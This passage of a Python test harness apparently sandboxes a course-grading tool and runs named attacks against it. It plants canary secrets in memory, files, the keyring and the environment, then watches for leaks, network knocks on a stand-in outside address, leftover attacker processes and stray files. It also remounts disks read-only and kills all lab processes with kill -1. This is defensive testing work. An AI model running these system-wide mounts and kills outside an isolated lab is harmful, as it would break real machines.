        Path("/dev/shm/bait").write_text(self.canary("memory"))
        with tempfile.TemporaryFile("w+", dir=self.room) as open_file:
            open_file.write(self.canary("file"))
            open_file.flush()
            subprocess.Popen(["sh", "-c", f"sleep 100000; : {self.canary('cmdline')}"], stdin=open_file)
        libc = ctypes.CDLL(None)
        libc.shmat.restype = ctypes.c_void_p
        text = self.canary("shm").encode()
        ctypes.memmove(libc.shmat(libc.shmget(0, 100, 0o1666), None, 0), text, len(text))
        libc.syscall(250, 1, None)  # a session keyring of one's own, gone with the lab
        libc.syscall(248, b"user", b"bait", self.canary("keyring").encode(), len(self.canary("keyring")), -3)

    def _doors(self) -> None:
        """Doors outside; whoever knocks is heard, and told a canary."""
        unix = [socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)]
        unix[0].bind("\0bait")
        unix[1].bind(str(self.room / "socket"))
        for door in unix:
            door.listen()
        doors = {
            "a port": socket.create_server(("127.0.0.1", self.port)),
            "an abstract socket": unix[0],
            "a socket": unix[1],
        }
        with contextlib.suppress(OSError):
            doors["the world"] = socket.create_server(("203.0.113.7", self.port))
        letters = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        letters.bind(("127.0.0.1", self.port))

        def serve(name: str, door: socket.socket) -> None:
            while True:
                caller, _ = door.accept()
                self.knocks.append(name)
                with contextlib.suppress(OSError), caller:
                    caller.send(self.canary("socket").encode())

        def receive() -> None:
            while True:
                letters.recv(100)
                self.knocks.append("a datagram")

        for name, door in doors.items():
            threading.Thread(target=serve, args=(name, door), daemon=True).start()
        threading.Thread(target=receive, daemon=True).start()

    def _fresh(self) -> None:
        """A course as if nothing had happened."""
        course = self.room / "course"
        _quiet("rm", "-rf", str(course))
        shutil.copytree(self.room / "fresh", course)
        ben = course / "submitted/ben" / mini.LESSON / f"{mini.LESSON}.ipynb"
        ben.parent.mkdir(parents=True)
        solution = (course / "solutions" / mini.LESSON / f"{mini.LESSON}.ipynb").read_text()
        ben.write_text(solution.replace("def case3", f"# {self.canary('another')}\\ndef case3"))
        with sqlite3.connect(course / "gradebook.db") as book:
            book.execute("insert into student (id, email) values ('ben', ?)", [self.canary("gradebook")])
        book.close()

    def _start(self) -> None:
        cache = Path(os.path.expanduser("~/.cache/matplotlib"))
        if cache.exists() and not (self.room / "home/.cache/matplotlib").exists():
            shutil.copytree(cache, self.room / "home/.cache/matplotlib")
        environment = {
            **os.environ,
            "HOME": str(self.room / "home"),
            "TMPDIR": str(self.room / "tmp"),
            "GRADER_TOKEN": self.canary("environment"),
            "SEED": str(self.seed),
        }
        self.log = open(self.room / "log", "a")  # noqa: SIM115
        self.grader = subprocess.Popen(
            [sys.executable, str(HERE), "grade", self.which, str(self.room)],
            text=True,
            cwd=self.room,
            env=environment,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=self.log,
            start_new_session=True,
        )
        self.grader.stdout.readline()

    def run(self, name: str) -> dict[str, Any]:
        self._fresh()
        if self.grader is None:
            self._start()
        attack = BY_NAME.get(name)
        self.knocks.clear()
        patience = (
            40
            if self.which == "stock"
            else (attack.seconds if attack else 30) + 25 + 20 * bool(attack and (attack.later or attack.after))
        )
        with Watch(self) as watch:
            started = time.monotonic()
            reply = self._asked([name, _places(self.room, self.port, self.token)], time.monotonic() + patience, watch)
            seconds = time.monotonic() - started
        left = self._left()
        words = reply.get("text", "") + reply.get("words", "")
        found = re.findall(rf"canary-(\w+)-{self.token}", words) + ["seed"] * (str(self.seed) in words)
        result = (
            asdict(
                Result(
                    seconds=seconds,
                    canaries=tuple(sorted(set(found))),
                    left=tuple(left),
                    reached=tuple(sorted(set(self.knocks))),
                    **watch.most(),
                )
            )
            | reply
        )
        return result | {"dirty": bool(self.grader is None or left or result["raised"])}

    def _asked(self, question: Any, deadline: float, watch: Watch) -> dict[str, Any]:
        lines: list[str] = []

        def ask() -> None:
            with contextlib.suppress(OSError, ValueError):
                self.grader.stdin.write(json.dumps(question) + "\n")
                self.grader.stdin.flush()
                lines.append(self.grader.stdout.readline())

        asking = threading.Thread(target=ask, daemon=True)
        asking.start()
        while asking.is_alive() and time.monotonic() < deadline and not watch.stopped:
            asking.join(0.05)
        if lines and lines[0]:
            return json.loads(lines[0])
        why = (
            "it took too much memory"
            if watch.stopped
            else "it is still running"
            if asking.is_alive()
            else f"it ended, status {self.grader.wait()}"
        )
        self.grader = None
        return {"raised": why}

    def _left(self) -> list[str]:
        """Files and processes of an attacker's that are still there."""
        for patience in (0, 0.05, 0.3):  # one that has been killed takes a moment to be gone
            time.sleep(patience)
            if not (names := [f"process {p}" for p, name in _processes() if name in ("mallory", "sleep 98765")]):
                break
        for top in (*self.uppers, *(self.room / f for f in ("home", "loot")), Path("/dev/shm"), self.room / "course"):
            names += [
                str(path).removeprefix(f"{self.room}/")
                for path in _files(top)
                if STUDENT not in path.parent.parts and _marked(path)
            ]
        with sqlite3.connect(self.room / "course/gradebook.db") as book:
            if book.execute("pragma user_version").fetchone() != (0,):
                names.append("gradebook.db")
        book.close()
        return names

    def rest(self) -> list[str]:
        """What is there when the grader has ended in its own way."""
        if self.grader is not None:
            self.grader.stdin.close()
            with contextlib.suppress(subprocess.TimeoutExpired):
                self.grader.wait(10)
        time.sleep(0.3)
        bystander = self.canary("cmdline")
        here = [name for p, name in _processes() if p != 1 and bystander not in name and name != "sleep 100000"]
        files = [str(p) for p in _files(self.room / "tmp")] + [str(p) for u in self.uppers for p in _files(u)]
        return [*here, *files]


class Watch:
    """Looks at the whole lab, ten times a second, and ends everything in it before it gets too large."""

    def __init__(self, warden: Warden):
        self.warden, self.stopped, self.done = warden, False, threading.Event()
        self.first = self._now()
        self.highest = self.first
        self.thread = threading.Thread(target=self._look, daemon=True)

    def __enter__(self) -> Watch:
        self.thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.done.set()
        self.thread.join()

    def _look(self) -> None:
        while not self.done.wait(0.1):
            now = self._now()
            self.highest = tuple(map(max, now, self.highest))
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", self.warden.port + 1), 0.05):
                self.warden.knocks.append("a port of the student's")
            if now[0] - self.first[0] > HIDDEN + (300 << 20):
                self.stopped = True
                os.kill(-1, signal.SIGKILL)  # all of the lab but this process, the first

    @staticmethod
    def _now() -> tuple[int, int, int]:
        """Memory, processes and threads of the whole lab."""
        memory = count = threads = 0
        for process in Path("/proc").glob("[0-9]*"):
            with contextlib.suppress(OSError, StopIteration):
                status = (process / "status").read_text()
                if process.name == "1" or "\nState:\tZ" in status:
                    continue
                count += 1
                threads += int(re.search(r"Threads:\t(\d+)", status)[1])
                memory += sum(map(int, re.findall(r"Rss(?:Anon|Shmem):\s+(\d+)", status))) << 10
        return memory, count, threads

    def most(self) -> dict[str, int]:
        differences = (high - low for high, low in zip(self.highest, self.first, strict=True))
        return dict(zip(("memory", "processes", "threads"), differences, strict=True))


def _read_only(room: Path) -> None:
    """From here on, nothing on any disc can be written to but the room."""
    for args in (("--make-rprivate", "/"), ("--bind", str(room), str(room))):
        if not _quiet("mount", *args):
            raise RuntimeError("the machine's discs cannot be made read-only here: attacks would really write to them")
    mounts = [line.split() for line in Path("/proc/self/mountinfo").read_text().splitlines()]
    for mount in mounts:
        place, options, kind = mount[4], mount[5].split(","), mount[mount.index("-") + 1]
        if kind in ("proc", "sysfs", "devtmpfs", "devpts", "cgroup", "cgroup2") or place == str(room):
            continue
        kept = [o for o in options if o in ("nosuid", "nodev", "noexec", "noatime", "relatime", "nodiratime")]
        if not _quiet("mount", "-o", ",".join(["remount", "bind", "ro", *kept]), place) and place == "/":
            raise RuntimeError("the machine's disc cannot be made read-only here: attacks would really write to it")


def _writable() -> list[Path]:
    """The folders outside the room that an attack may try to write to: the packages, and the grader itself."""
    import importlib.util
    import site

    wanted = sorted(
        {Path(p).resolve() for p in site.getsitepackages() if Path(p).exists()}
        | {Path(importlib.util.find_spec("grader").origin).resolve().parents[1]}
    )
    return [p for k, p in enumerate(wanted) if not any(p.is_relative_to(other) for other in wanted[:k])]


def _quiet(*command: str) -> bool:
    return subprocess.run(command, capture_output=True).returncode == 0


def _network_up() -> None:
    """The loopback, and on it an address that stands for the world outside."""
    import fcntl
    import struct

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_:
        fcntl.ioctl(any_, 0x8914, struct.pack("16sH14x", b"lo", 0x41))  # SIOCSIFFLAGS: up, running
        address = struct.pack("16sHH4s8x", b"lo:1", socket.AF_INET, 0, socket.inet_aton("203.0.113.7"))
        fcntl.ioctl(any_, 0x8916, address)  # SIOCSIFADDR


def _processes() -> list[tuple[int, str]]:
    """Every living process of the lab: its number, and its name or command."""
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if ") Z" not in (process / "stat").read_text():
                name = (process / "comm").read_text().strip()
                command = (process / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace").strip()
                found.append((int(process.name), name if name == "mallory" else command))
    return found


def _files(top: Path) -> list[Path]:
    """All files and links below a folder, but not in depths where no path leads."""
    found, folders = [], [top]
    while folders:
        with contextlib.suppress(OSError), os.scandir(folders.pop()) as entries:
            for entry in entries:
                (folders if entry.is_dir(follow_symlinks=False) else found).append(Path(entry.path))
    return found


def _marked(path: Path) -> bool:
    if STUDENT in path.name:
        return True
    with contextlib.suppress(OSError):
        return path.is_file() and path.stat().st_size < 1 << 20 and MARK in path.read_text(errors="replace")
    return False


if __name__ == "__main__":
    if sys.argv[1] == "lab":
        laboratory(sys.argv[2], Path(sys.argv[3]))
    else:
        grade(*sys.argv[2:])
